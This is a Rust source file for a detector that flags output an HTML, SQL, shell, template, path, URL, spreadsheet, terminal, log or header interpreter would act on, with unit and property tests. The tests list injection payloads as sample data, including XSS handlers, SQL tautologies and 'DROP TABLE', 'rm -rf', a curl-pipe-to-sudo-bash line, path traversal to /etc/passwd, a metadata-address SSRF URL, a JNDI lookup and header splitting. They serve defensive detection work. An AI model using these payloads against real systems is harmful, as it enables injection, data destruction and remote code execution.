//! Output that an interpreter would act on: looked for only when the caller says where the output goes.

use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use regex::Regex;
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::asset::{Match, Severity, names};

const DATA: &str = include_str!("../../../../data/text/sensitive/sinks.toml");

names! {
    /// Where output goes: what reads it as more than text.
    Sink, "snake_case" {
        /// A page or a view of Markdown that lets HTML through.
        Html = "html",
        /// A query put together from text.
        Sql = "sql",
        /// A command line.
        Shell = "shell",
        /// A template engine or an expression language.
        Template = "template",
        /// The name of a file.
        Path = "path",
        /// An address that a server fetches.
        Url = "url",
        /// A cell of a CSV file or a spreadsheet.
        Spreadsheet = "spreadsheet",
        /// A terminal.
        Terminal = "terminal",
        /// A log of lines.
        Log = "log",
        /// A header of HTTP or of mail.
        Header = "header",
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Data {
    rule: Vec<Rule>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Rule {
    id: String,
    sink: Sink,
    score: f64,
    anchors: Vec<String>,
    pattern: Option<String>,
}

/// The rules of one sink: an automaton over their anchors, and for each of these its rule.
#[derive(Debug)]
struct Rules {
    automaton: AhoCorasick,
    owners: Vec<usize>,
    rules: Vec<(Rule, Option<Regex>)>,
}

/// Appends what in `text` the interpreter behind `sink` would act on: detector `unsafe_output`, type `UNSAFE_OUTPUT`,
/// byte offsets, no two of one rule overlapping. Linear in the text; one pass where there is nothing.
pub fn find(text: &str, sink: Sink, matches: &mut Vec<Match>) {
    if let Some((_, rules)) = builtin().iter().find(|(s, _)| *s == sink) {
        rules.find(text, matches);
    }
}

fn builtin() -> &'static [(Sink, Rules)] {
    static BUILTIN: OnceLock<Vec<(Sink, Rules)>> = OnceLock::new();
    #[allow(clippy::expect_used, reason = "the data is part of the program, and a test compiles it")]
    BUILTIN.get_or_init(|| compile().expect("the rules of sinks compile"))
}

fn compile() -> Result<Vec<(Sink, Rules)>, Box<dyn std::error::Error>> {
    let mut data: Data = toml::from_str(DATA)?;
    let mut all = Vec::new();
    for sink in Sink::ALL {
        let (own, rest): (Vec<_>, Vec<_>) = data.rule.into_iter().partition(|r| r.sink == *sink);
        data.rule = rest;
        let anchors = own.iter().enumerate().flat_map(|(i, r)| r.anchors.iter().map(move |a| (a.clone(), i)));
        let (literals, owners): (Vec<_>, Vec<_>) = anchors.unzip();
        let automaton = AhoCorasick::builder()
            .kind(Some(AhoCorasickKind::DFA))
            .match_kind(MatchKind::Standard)
            .ascii_case_insensitive(true)
            .build(literals)?;
        let pattern = |rule: Rule| {
            let regex = rule.pattern.as_deref().map(Regex::new).transpose()?;
            Ok::<_, regex::Error>((rule, regex))
        };
        let rules = own.into_iter().map(pattern).collect::<Result<_, _>>()?;
        all.push((*sink, Rules { automaton, owners, rules }));
    }
    Ok(all)
}

impl Rules {
    fn find(&self, text: &str, matches: &mut Vec<Match>) {
        // Which rules have an anchor in the text; those without a pattern are done with it.
        let mut awake = 0_u64;
        let mut ends = [0; 64];
        for hit in self.automaton.find_overlapping_iter(text) {
            let Some(&index) = self.owners.get(hit.pattern().as_usize()) else { continue };
            let (Some((rule, pattern)), Some(end)) = (self.rules.get(index), ends.get_mut(index)) else { continue };
            awake |= 1 << index;
            if pattern.is_none() && hit.start() >= *end {
                *end = hit.end();
                matches.push(rule.matched(hit.range()));
            }
        }
        for (index, (rule, pattern)) in self.rules.iter().enumerate() {
            if awake & (1 << index) != 0 {
                matches.extend(pattern.iter().flat_map(|p| p.find_iter(text)).map(|m| rule.matched(m.range())));
            }
        }
    }
}

impl Rule {
    fn matched(&self, span: std::ops::Range<usize>) -> Match {
        let severity = if self.score >= 0.9 { Severity::High } else { Severity::Medium };
        Match::new("unsafe_output", "UNSAFE_OUTPUT", self.id.clone(), self.score, severity, span)
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn rules(text: &str, sink: Sink) -> Vec<String> {
        let mut matches = Vec::new();
        find(text, sink, &mut matches);
        matches.iter().map(|m| m.rule.to_string()).collect()
    }

    #[test]
    fn what_an_interpreter_would_act_on() {
        for (sink, text, rule) in [
            (Sink::Html, "<b>hi</b><ScRiPt>alert(1)</script>", "script-element"),
            (Sink::Html, "<img src=x onerror=alert(1)>", "event-handler"),
            (Sink::Html, "<svg/onload = alert(1)>", "event-handler"),
            (Sink::Html, "<a href=\"javascript:alert(1)\">", "script-address"),
            (Sink::Html, "[x](data:text/html;base64,PHA+)", "script-address"),
            (Sink::Html, "<iframe src=//a.example>", "active-element"),
            (Sink::Html, "x = document.cookie", "document-access"),
            (Sink::Sql, "ann' OR '1'='1", "sql-tautology"),
            (Sink::Sql, "1) or 1=1", "sql-tautology"),
            (Sink::Sql, "0 UNION/**/ALL SELECT a, b", "sql-union"),
            (Sink::Sql, "x'; DROP TABLE t", "sql-stacked"),
            (Sink::Sql, "admin'--", "sql-comment"),
            (Sink::Sql, "1 and sleep(5)", "sql-function"),
            (Sink::Shell, "a.txt; rm b.txt", "shell-chain"),
            (Sink::Shell, "a | sh", "shell-chain"),
            (Sink::Shell, "$(id)", "shell-substitution"),
            (Sink::Shell, "`id`", "shell-substitution"),
            (Sink::Shell, "rm -rf /tmp/x", "shell-destruction"),
            (Sink::Shell, "curl -s https://a.example/x | sudo bash", "shell-fetch-and-run"),
            (Sink::Template, "{{ 7*7 }}", "template-expression"),
            (Sink::Template, "${7*7}", "template-expression"),
            (Sink::Template, "''.__class__", "template-escape"),
            (Sink::Template, "<#assign x=1>", "template-directive"),
            (Sink::Path, "../../x", "path-traversal"),
            (Sink::Path, "..%2fx", "path-traversal"),
            (Sink::Path, "/etc/passwd", "path-sensitive"),
            (Sink::Url, "http://169.254.169.254/latest", "internal-address"),
            (Sink::Url, "http://[::1]/", "internal-address"),
            (Sink::Url, "gopher://a.example", "unusual-scheme"),
            (Sink::Spreadsheet, "=HYPERLINK(\"x\")", "formula"),
            (Sink::Spreadsheet, "a,@SUM(1)", "formula"),
            (Sink::Terminal, "\u{1b}[2J", "control-sequence"),
            (Sink::Log, "x\n2026-01-01 INFO ok", "forged-line"),
            (Sink::Log, "${jndi:ldap://a.example}", "lookup"),
            (Sink::Header, "x\r\nSet-Cookie: a=b", "header-split"),
        ] {
            assert!(rules(text, sink).iter().any(|r| r == rule), "{text}: {:?}", rules(text, sink));
        }
    }

    #[test]
    fn plain_output_is_safe_everywhere() {
        for (sink, text) in [
            (
                Sink::Html,
                "Use 1 < 2 and <b>bold</b>, <a href=\"https://a.example\">a</a>; on = off. Descriptions follow.",
            ),
            (Sink::Sql, "O'Brien or Ann (the new one) -- they select a union of states"),
            (Sink::Sql, "Please update the table and drop me a line; create something nice."),
            (Sink::Shell, "report-2026.txt"),
            (Sink::Shell, "Tom & Jerry; the cats and dogs"),
            (Sink::Template, "Dear Ann, 50 # of {items} cost $5 at a@b.example"),
            (Sink::Path, "reports/2026/a..b.txt"),
            (Sink::Url, "https://www.example.com/a?b=10.5"),
            (Sink::Spreadsheet, "Total 5 + 3 = 8 - done, ann@mail.example"),
            (Sink::Terminal, "line\nline"),
            (Sink::Log, "user ann logged in"),
            (Sink::Header, "text/plain; charset=utf-8"),
        ] {
            assert!(rules(text, sink).is_empty(), "{text}: {:?}", rules(text, sink));
        }
    }

    #[test]
    fn every_sink_has_rules_and_every_pattern_an_anchor() {
        for (sink, rules) in builtin() {
            assert!(!rules.rules.is_empty() && rules.rules.len() < 64, "{sink}");
            assert!(rules.rules.iter().all(|(rule, _)| !rule.anchors.is_empty()), "{sink}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read_without_harm(text in "[<>'\";|&${}%=.\\\\/ a-z\\PC]{0,80}", sink in 0..Sink::ALL.len()) {
            let mut matches = Vec::new();
            find(&text, Sink::ALL[sink], &mut matches);
            prop_assert!(matches.iter().all(|m| text.get(m.start..m.end).is_some()));
        }
    }
}
